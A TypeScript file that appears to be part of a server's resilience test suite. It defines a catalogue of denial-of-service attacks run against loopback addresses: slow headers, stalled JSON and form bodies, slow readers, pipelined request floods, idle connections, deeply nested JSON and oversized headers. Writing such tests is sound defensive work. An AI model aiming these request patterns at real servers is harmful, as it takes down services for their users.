import type { Socket } from 'node:net';
import { DEFAULT_BODY_BYTES } from '../../../adapters/host/bodies.ts';
import { uploadUsage } from '../../../ports/inbound/api/devices.ts';
import { reportError } from '../../../ports/inbound/api/support.ts';
import type { EndpointSpec } from '../../../ports/inbound/endpoint.ts';
import type { Target } from './target.ts';

type Connections = { readonly open: (from: string, port?: number) => Socket };

type Attack = {
  readonly title: string;
  /** Starts the attack, which continues until its process ends. */
  readonly attack: (connections: Connections, target: Target) => void;
};

const ADDRESS = '127.0.1.1';

/** One of several addresses of this machine. */
const address = (n: number): string => `127.0.${2 + Math.floor(n / 200)}.${1 + (n % 200)}`;

const request = (line: string, headers: Readonly<Record<string, string | number>>): string =>
  `${line} HTTP/1.1\r\nHost: attacked\r\n${Object.entries(headers)
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('')}\r\n`;

const pick = <T>(all: readonly T[], n: number): T => all[n % all.length] as T;

const count = (times: number, each: (n: number) => void): void => {
  for (let n = 0; n < times; n++) each(n);
};

const limitOf = ({ bodyLimit = DEFAULT_BODY_BYTES }: EndpointSpec): number => bodyLimit;

/** Sends almost all of an endpoint's largest JSON body, and stalls. */
const stallJson = (socket: Socket, endpoint: EndpointSpec, headers: Readonly<Record<string, string>>): void => {
  const bytes = limitOf(endpoint);
  const head = { 'Content-Type': 'application/json', 'Content-Length': bytes, ...headers };
  socket.write(request(`${endpoint.method} ${endpoint.path}`, head));
  socket.write(`{"a": "${'x'.repeat(Math.floor(bytes * 0.97))}`);
};

const bearer = (key: string) => ({ Authorization: `Bearer ${key}` });

/** Reads the head of a response, and no further byte. */
const stopReading = (socket: Socket): void => void socket.once('data', () => socket.pause());

/** Sends the same bytes repeatedly, on a new connection if the server closed the last one. */
const again = (connections: Connections, from: string, bytes: string | Buffer): void => {
  const socket = connections.open(from);
  socket.write(bytes);
  socket.on('data', () => socket.write(bytes));
  socket.once('close', () => setTimeout(() => again(connections, from, bytes), 5));
};

/** Requests the list of tickets as often as its account may. */
const readTickets =
  (readers: number) =>
  (connections: Connections, { pages: { port, cookie } }: Target): void =>
    count(readers, (n) => {
      const ask = request('GET /support', { Cookie: cookie });
      const socket = connections.open(address(n), port);
      socket.write(ask);
      let answer = '';
      socket.on('data', (piece) => {
        answer = (answer + piece.toString('latin1')).slice(-100);
        if (answer.includes('</html>')) socket.write(ask);
        if (answer.includes('</html>')) answer = '';
      });
    });

export const ATTACKS = {
  'eight readers of tickets': {
    title: 'Eight browsers of one account ask for its 50 tickets with 950 answers of quotation marks',
    attack: readTickets(8),
  },
  'forty readers of tickets': {
    title: 'Forty browsers of one account ask for its 50 tickets with 950 answers of quotation marks',
    attack: readTickets(40),
  },
  'stalled JSON, anonymous': {
    title: '300 connections from 60 addresses stall at 97 % of an error report of 512 KiB',
    attack: (connections) => count(300, (n) => stallJson(connections.open(address(n % 60)), reportError, {})),
  },
  'stalled JSON, with keys': {
    title: '300 connections with 10 keys stall at 97 % of the largest usage upload',
    attack: (connections, { attackers }) =>
      count(300, (n) => stallJson(connections.open(address(n % 10)), uploadUsage, bearer(pick(attackers, n)))),
  },
  'stalled forms': {
    title: '60 forms of two accounts stall after 1 MB of 20',
    attack: (connections, { attackers }) =>
      count(60, (n) => {
        const socket = connections.open(address(n % 2));
        const headers = { 'Content-Type': 'multipart/form-data; boundary=x', 'Content-Length': 20_000_000 };
        socket.write(request('POST /api/support/reports', { ...headers, ...bearer(pick(attackers.slice(0, 2), n)) }));
        socket.write('--x\r\nContent-Disposition: form-data; name="bundle"; filename="a.zip"\r\n\r\n');
        socket.write('x'.repeat(1_000_000));
      }),
  },
  'stalled readers of JSON': {
    title: '400 connections ask for a library of 50 products eight times each and read only the first bytes',
    attack: (connections, { attackers }) =>
      count(400, (n) => {
        const socket = connections.open(address(n % 10));
        stopReading(socket);
        count(8, () => socket.write(request('GET /api/library', bearer(pick(attackers, n)))));
      }),
  },
  'pipelined requests': {
    title: '720 connections of three addresses send 2400 short requests in one piece, again and again',
    attack: (connections) => {
      const piece = 'GET / HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(2400);
      count(720, (n) => again(connections, address(n % 3), piece));
    },
  },
  'stalled readers of files': {
    title: '400 connections ask for a file of 8 MiB and read only the first bytes',
    attack: (connections, { file }) =>
      count(400, (n) => {
        const socket = connections.open(address(n % 10));
        stopReading(socket);
        socket.write(request(`GET ${file}`, {}));
      }),
  },
  'slow headers': {
    title: '1000 connections of five addresses send a byte of a header each second',
    attack: (connections) =>
      count(1000, (n) => {
        const socket = connections.open(address(n % 5));
        socket.write('GET / HTTP/1.1\r\nHost: attacked\r\nX-Slow: ');
        const sending = setInterval(() => socket.write('x'), 1000);
        socket.once('close', () => clearInterval(sending));
      }),
  },
  'idle connections': {
    title: '3000 connections of one address send nothing',
    attack: (connections) => count(3000, () => connections.open(ADDRESS)),
  },
  'unknown paths': {
    title: '32 connections of one address ask for unknown paths as fast as they are answered',
    attack: (connections) =>
      count(32, (n) => again(connections, ADDRESS, request(`GET /wp-admin/${n}/${'x'.repeat(200)}`, {}))),
  },
  'deep JSON': {
    title: '32 connections with 10 keys send bodies that are as deep as they are long',
    attack: (connections, { attackers }) =>
      count(32, (n) => {
        const body = '['.repeat(limitOf(uploadUsage));
        const headers = { 'Content-Type': 'application/json', 'Content-Length': body.length };
        const head = request(`POST ${uploadUsage.path}`, { ...headers, ...bearer(pick(attackers, n)) });
        again(connections, address(n % 10), head + body);
      }),
  },
  'huge headers': {
    title: '32 connections of one address send 100 KB of headers as fast as they are answered',
    attack: (connections) =>
      count(32, () => again(connections, ADDRESS, request('GET /', { 'X-Large': 'x'.repeat(100_000) }))),
  },
} as const satisfies Record<string, Attack>;

export type AttackName = keyof typeof ATTACKS;
